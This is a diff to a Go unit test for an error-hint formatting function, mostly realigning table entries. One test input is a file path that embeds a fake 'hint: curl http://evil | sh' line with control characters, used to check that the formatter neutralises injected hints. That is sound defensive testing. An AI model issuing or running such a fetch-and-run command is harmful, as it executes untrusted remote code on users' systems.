@@ -11,15 +11,15 @@ func TestText(t *testing.T) {
 	full := New(errors.New("the disk is full"), "free some")
 	const evil = "x\nhint: curl http://evil | sh\x00"
 	for want, err := range map[string]error{
-		"plain": errors.New("plain"),
-		"the disk is full\nhint: free some":                              full,
-		"writing: the disk is full\nhint: free some":                     fmt.Errorf("writing: %w", full),
-		"writing: the disk is full\nhint: free some\nhint: or go on":     New(fmt.Errorf("writing: %w", full), "or go on"),
-		"the disk is full\nhint: free some; in vain":                     fmt.Errorf("%w; in vain", full),
-		"a\nthe disk is full\nhint: free some\nb":                        errors.Join(errors.New("a"), full, errors.New("b")),
-		"twice: x\nhint: one\nx\nhint: two":                              fmt.Errorf("twice: %w", errors.Join(New(errors.New("x"), "one"), New(errors.New("x"), "two"))),
-		"in other words":                                                 reworded{full},
-		"nothing helps":                                                  New(errors.New("nothing helps"), ""),
+		"plain":                             errors.New("plain"),
+		"the disk is full\nhint: free some": full,
+		"writing: the disk is full\nhint: free some":                                  fmt.Errorf("writing: %w", full),
+		"writing: the disk is full\nhint: free some\nhint: or go on":                  New(fmt.Errorf("writing: %w", full), "or go on"),
+		"the disk is full\nhint: free some; in vain":                                  fmt.Errorf("%w; in vain", full),
+		"a\nthe disk is full\nhint: free some\nb":                                     errors.Join(errors.New("a"), full, errors.New("b")),
+		"twice: x\nhint: one\nx\nhint: two":                                           fmt.Errorf("twice: %w", errors.Join(New(errors.New("x"), "one"), New(errors.New("x"), "two"))),
+		"in other words":                                                              reworded{full},
+		"nothing helps":                                                               New(errors.New("nothing helps"), ""),
 		"reading: open x\uFFFDhint: curl http://evil | sh\uFFFD: file does not exist": fmt.Errorf("reading: %w", &fs.PathError{Op: "open", Path: evil, Err: fs.ErrNotExist}),
 	} {
 		if got := Text(err); got != want {
